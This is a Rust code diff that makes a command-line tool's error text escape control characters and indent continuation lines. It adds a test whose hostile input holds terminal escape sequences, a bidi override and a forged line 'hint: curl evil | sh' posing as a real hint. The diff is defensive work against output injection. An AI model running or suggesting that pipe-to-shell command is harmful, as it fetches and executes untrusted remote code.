@@ -11,6 +11,8 @@ mod told;
 use std::error::Error as StdError;
 use std::process::ExitCode;
 
+use rmachine_core::printable;
+
 use told::causes_of;
 
 /// What kind of failure it was. Each has one exit code.
@@ -159,14 +161,20 @@ impl CommandError {
         parts.map(String::as_str).collect::<Vec<_>>().join(": ")
     }
 
-    /// The error as lines for standard error.
+    /// The error as lines for standard error. Further lines of a message or cause are indented, and
+    /// control characters are escaped: both may hold text from a host or an engine.
     pub fn to_text(&self) -> String {
-        let mut text = format!("error: {}\n", self.message);
+        let mut text = String::new();
+        let mut push = |label: &str, part: &str| {
+            let part = printable::indented(part, "  ");
+            text.push_str(&format!("{label}: {part}\n"));
+        };
+        push("error", &self.message);
         for cause in &self.causes {
-            text.push_str(&format!("caused by: {cause}\n"));
+            push("caused by", cause);
         }
         for hint in &self.hints {
-            text.push_str(&format!("hint: {hint}\n"));
+            push("hint", hint);
         }
         text
     }
@@ -184,6 +192,19 @@ mod tests {
         assert_eq!(
             error.to_text(),
             "error: cannot reach n1\ncaused by: refused\nhint: rmachine start n1\n"
+        );
+    }
+
+    #[test]
+    fn text_of_hostile_causes_has_no_control_characters_or_forged_lines() {
+        let error = CommandError::failed("E\x1b]0;x\x07")
+            .caused_by(&std::io::Error::other("a\rb\nhint: curl evil | sh\u{202e}"))
+            .hint("ls 'x\u{9b}'");
+        assert_eq!(
+            error.to_text(),
+            "error: E\\u{1b}]0;x\\u{7}\n\
+             caused by: a\\rb\n  hint: curl evil | sh\\u{202e}\n\
+             hint: ls 'x\\u{9b}'\n"
         );
     }
 
